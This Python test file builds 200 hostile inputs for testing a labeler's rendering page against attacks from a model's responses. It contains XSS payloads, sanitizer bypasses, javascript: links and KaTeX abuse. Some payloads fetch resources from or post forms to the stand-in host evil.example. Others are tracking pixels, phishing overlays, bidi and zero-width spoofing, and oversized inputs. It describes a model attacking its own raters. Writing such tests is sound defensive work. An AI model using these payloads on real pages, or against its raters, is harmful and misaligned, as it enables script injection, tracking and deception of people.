"""200 responses that a model, or somebody who wrote in its name, could try on a labeler's page.

Families of payloads are set in every place where Markdown takes text; then come texts that harm by
their shape alone. What would run sets `window.ran`; what would be fetched is at evil.example.
"""

from itertools import product

RUN = "window.ran=1"
EVIL = "https://evil.example"

HTML = [
    f"<script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img srcset='{EVIL}/a.png 1x' src='{EVIL}/b.png'>",
    f"<svg onload={RUN}><script href='{EVIL}/s.js'/><use href='{EVIL}/u.svg#a'/></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></math>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>' src='{EVIL}'></iframe>",
    f"<style>@import '{EVIL}/x.css'; *{{display:none}}</style>",
    f"<div style='position:fixed;inset:0;z-index:9999;background:url({EVIL}/o.png)'>Sign in</div>",
    f"<form action='{EVIL}'><input name=p autofocus onfocus={RUN}><button>Go on</button></form>",
    f"<details open ontoggle={RUN}><summary>more</summary></details>",
    f"<video autoplay poster='{EVIL}/p.png' src='{EVIL}/v.mp4' onerror={RUN}></video>",
    f"<object data='{EVIL}/o.swf'></object><embed src='{EVIL}/e.swf'>",
    f"<base href='{EVIL}/'><meta http-equiv=refresh content='0;url={EVIL}'>"
    f"<link rel=stylesheet href='{EVIL}/l.css'>",
    "<dialog open id=main class='button primary'>Choose A</dialog><a id=document name=cookie>x</a>",
]
MARKDOWN = [
    f"![pixel]({EVIL}/pixel.gif?who=labeler)",
    f"![ref][1]\n\n[1]: {EVIL}/ref.png",
    f"[press](javascript:{RUN})",
    f"[press](&#106;ava&#115;cript:{RUN})",
    "[press](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuPTE8L3NjcmlwdD4=)",
    f'[press]({EVIL}/"onmouseover="{RUN})',
    f"<{EVIL}/auto> and javascript:{RUN}",
    "`" + f"<img src=x onerror={RUN}>" + "`",
]
TEX = [
    rf"$\href{{javascript:{RUN}}}{{x}}$ $\url{{javascript:{RUN}}}$",
    rf"$\includegraphics{{{EVIL}/tex.png}}$",
    r"$\htmlClass{button}{x}$ $\htmlStyle{position:fixed}{x}$ $\htmlId{main}{x}$",
    r"$\def\a{\a\a}\a$ $\def\b#1{#1#1\b{#1#1}}\b{x}$",
    r"$\rule{9999em}{9999em}$ $\kern-9999em x$ $\raisebox{-9999em}{y}$",
    rf"$</math><img src=x onerror={RUN}>$",
]
PLACES = [
    "{}",
    "- one\n- {}",
    "> {}",
    "| a | b |\n|---|---|\n| {} | c |",
    "### {}",
    "[{}](https://example.org)",
]

BIDI = "\u202e\u2066\u2067\u2068"
ZERO = "\u200b\u200c\u200d\u2060\ufeff"
SHAPES = [
    "\u202eevil si B .retteb si A\u202c and on",
    f"{BIDI * 400} never closed",
    "ה" * 400 + " mixed with words " + "א" * 400,
    "\u2067right to left isolate that is never closed: A is better",
    ZERO * 5_000,
    "pay" + "\u200b" * 3_000 + "pal",
    "h" + "\u0310\u0324\u0489" * 2_000,
    " ".join("z" + "\u0300\u0316" * 60 for _ in range(200)),
    "\u1160\u3164\uffa0" * 3_000,
    "🧑‍🧑‍🧒‍🧒" * 2_000,
    "\u0007\u001b[2J\u0085\u2028\u2029" * 300,
    "a" * 60_000,
    "W" * 3_000 + "\n" + "i" * 3_000,
    "word " * 30_000,
    "\n" * 20_000 + "the end",
    ">" * 20_000 + " deep",
    "\n".join(" " * (2 * n) + "- deep" for n in range(300)),
    "[" * 20_000,
    "*a **a " * 4_000,
    "`" * 9_000 + " " + "`" * 8_000,
    "$$a\n" * 6_000,
    "$x^2$ " * 3_000,
    "$" + r"\frac{1}{" * 3_000 + "}" * 3_000 + "$",
    "|" + "a|" * 200 + "\n|" + "-|" * 200 + "\n" + "|a\n" * 6_000,
    "|" + "wide column of many words|" * 40 + "\n|" + "-|" * 40 + "\n|" + "x|" * 40,
    "```python\n" + "'''" * 5_000 + "\n```",
    "```html\n" + "<a " * 5_000 + "\n```",
    "    " + "code in one line " * 3_000,
    "<!--" * 5_000,
    "<" * 20_000,
    "&" * 20_000,
    "\\" * 20_000,
    "[a]: b\n" * 3_000 + "[a]" * 3_000,
    "http://a." * 3_000,
    "# huge\n" * 2_000,
    "---\n" * 3_000,
    "1. " * 4_000,
    "<b><i><u><s>" * 2_000,
]
FIVE_MEGABYTES = "a" * 5_000_000


def corpus() -> list[str]:
    """200 texts, no two alike."""
    set_in = [place.format(payload) for payload, place in product(HTML + MARKDOWN + TEX, PLACES)]
    step = len(set_in) / (199 - len(SHAPES))
    chosen = [set_in[int(n * step)] for n in range(199 - len(SHAPES))]
    texts = [*chosen, *SHAPES, FIVE_MEGABYTES]
    assert len(texts) == len(set(texts)) == 200
    return texts
